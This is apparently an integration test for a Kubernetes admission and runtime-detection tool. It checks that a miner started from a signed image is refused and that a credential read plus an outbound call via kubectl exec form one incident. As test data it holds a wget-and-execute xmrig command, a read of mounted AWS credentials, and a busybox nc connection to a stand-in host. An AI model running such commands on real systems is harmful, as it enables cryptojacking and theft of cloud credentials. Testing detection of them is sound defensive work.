//! A console that anybody may open: its service account starts a miner in a base image that is signed and permitted. Brought by the start command,
//! it is refused, for what the signed image would do with that command; brought by `kubectl exec`, it is one incident that names the account,
//! the credential that was read and the pool that was called.

use std::{env, fs, path::Path, process::Command};

use serde_json::{Value, json};
use tests::{mayfly_path, run};

use super::{API, bridge, sensor};
use crate::world::{World, is_running, pod, push, wait};

const NAMESPACE: &str = "console";
const ACCOUNT: &str = "system:serviceaccount:console:dashboard";
const IMAGE: &str = "127.0.0.1:5000/base:1";

pub(crate) fn a_console_that_anybody_may_open_gets_no_miner_far(world: &World) {
    let Some(harness) = env::var_os("TRUTH_HARNESS") else {
        println!("not run: TRUTH_HARNESS names the folder of the sensor in the kernel");
        return;
    };
    let (_bridge, _sensor) = (bridge(world), sensor(world, Path::new(&harness)));
    signed_base(world);
    world.labeled(NAMESPACE, json!({"console": "open"}));
    let role = json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "dashboard", "namespace": NAMESPACE}},
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "cloud", "namespace": NAMESPACE}, "stringData": {"credentials": "[default]"}},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "dashboard", "namespace": NAMESPACE},
            "rules": [{"apiGroups": [""], "resources": ["pods", "pods/exec"], "verbs": ["get", "create"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "dashboard", "namespace": NAMESPACE},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "dashboard"},
            "subjects": [{"kind": "ServiceAccount", "name": "dashboard", "namespace": NAMESPACE}]},
    ]});
    world.cluster.kubectl_with(&["create"], &role).ok();
    let of = |name: &str, command: &[&str]| {
        pod(
            NAMESPACE,
            name,
            &json!({"containers": [{"name": "main", "image": IMAGE, "command": command,
            "volumeMounts": [{"name": "cloud", "mountPath": "/root/.aws", "readOnly": true}]}],
            "volumes": [{"name": "cloud", "secret": {"secretName": "cloud"}}]}),
        )
    };

    // (a) By the start command: the image is signed and permitted, what it would do is not.
    let miner =
        "wget -O /tmp/xmrig http://203.0.113.9/xmrig && chmod +x /tmp/xmrig && exec /tmp/xmrig -o 203.0.113.9:3333";
    let done = world.cluster.kubectl_with(&["create", "--as", ACCOUNT], &of("miner", &["sh", "-c", miner]));
    assert!(done.code != 0 && done.stderr.contains("FOREIGN_PROGRAM"), "{}", done.stderr);
    world.cluster.kubectl_with(&["create", "--as", ACCOUNT], &of("worker", &["sleep", "100000"])).ok();
    world.cluster.until(NAMESPACE, "pod", "worker", 60, is_running);

    // (b) and (c) By the console's account, into the pod that runs: the mounted credentials, then the miner.
    let script = "cat /root/.aws/credentials; mkdir -p /tmp; cp /bin/busybox /tmp/busybox; /tmp/busybox nc -w 1 203.0.113.9 3333";
    let exec =
        ["exec", "-n", NAMESPACE, "worker", "--as", ACCOUNT, "--request-timeout", "20s", "--", "sh", "-c", script];
    world.cluster.kubectl(exec);
    let incident = wait(90, "all of it is one incident", || {
        let asked = |path: &str| -> Value {
            let url = format!("http://{API}/api/v1/{path}");
            let done = run(world.cluster.inside("curl").args([
                "-sS",
                "-m",
                "10",
                "-H",
                "Authorization: Bearer admin-token",
                &url,
            ]));
            serde_json::from_str(&done.text()).unwrap_or_default()
        };
        let list = asked(&format!("incidents?namespace={NAMESPACE}"));
        let all = list["incidents"].as_array().cloned().unwrap_or_default();
        let [one] = all.as_slice() else { return Err(format!("{} incidents: {list:#}", all.len())) };
        let whole = asked(&format!("incidents/{}", one["id"].as_str().expect("a name")));
        let has = |class: &str, part: &str| {
            let chapters = whole["chapters"].as_array().into_iter().flatten();
            chapters
                .into_iter()
                .any(|one| one["class"] == class && one["subject"].as_str().is_some_and(|text| text.contains(part)))
        };
        let is_whole = has("sensitive-read", "/.aws/credentials")
            && has("program-not-in-image", "/tmp/busybox")
            && has("connect", "203.0.113.9:3333")
            && whole["users"].to_string().contains(ACCOUNT);
        if is_whole { Ok(whole) } else { Err(format!("{whole:#}")) }
    });
    let stages: Vec<&String> = incident["stages"].as_object().expect("stages").keys().collect();
    println!(
        "one incident of {} alerts, risk {}, stages {stages:?}",
        incident["chapters"].as_array().map_or(0, Vec::len),
        incident["risk"]
    );
    assert!(stages.len() >= 2 && incident["risk"].as_f64().expect("a risk") > 0.9, "{incident:#}");
    assert!(!incident["trees"].as_array().expect("trees").is_empty());
    world.cluster.kubectl(["delete", "clusterimagerule/base-images"]).ok();
    world.cluster.kubectl(["delete", "namespace", NAMESPACE, "--wait=false"]).ok();
}

/// A base image with a signature, and the rule that permits it: where its pods run nothing that it does not have.
fn signed_base(world: &World) {
    push(&world.cluster, "a base image", IMAGE);
    let relay = world.cluster.relay(5000);
    let keys = world.cluster.folder().join("console-keys");
    fs::create_dir_all(&keys).expect("a folder");
    let mayfly = |line: &str| {
        let mut command = Command::new(mayfly_path());
        run(command.args(line.split_whitespace()).current_dir(&keys).env("MAYFLY_KEY_PASSWORD", "a password")).ok();
    };
    mayfly("keys generate --output-prefix base");
    mayfly(&format!("sign 127.0.0.1:{relay}/base:1 --key base.key --plain-http"));
    let key = fs::read_to_string(keys.join("base.pub")).expect("a key");
    let rules = world.metric("mayfly_rules");
    world.cluster.create(
        &json!({"apiVersion": "mayfly.dev/v1alpha1", "kind": "ClusterImageRule", "metadata": {"name": "base-images"},
        "spec": {"match": {"namespaces": {"matchLabels": {"console": "open"}}}, "enforcement": "Always",
            "signers": [{"name": "base", "evidence": "Signature", "key": {"data": key}}],
            "require": {"signatures": {"anyOf": ["base"]}, "dna": {"onMissing": "DenyRetry"}},
            "validations": [{"name": "runs-what-it-has", "reason": "FOREIGN_PROGRAM",
                "expression": "expectation.unknowns.all(u, u.what != 'exec')",
                "message": "it runs what the image does not have"}]}}),
    );
    wait(20, "the rule is in force", || {
        let now = world.metric("mayfly_rules");
        if now == rules + 1.0 {
            Ok(())
        } else {
            Err(format!("{now} rules; {}", world.log().lines().last().unwrap_or_default()))
        }
    });
}
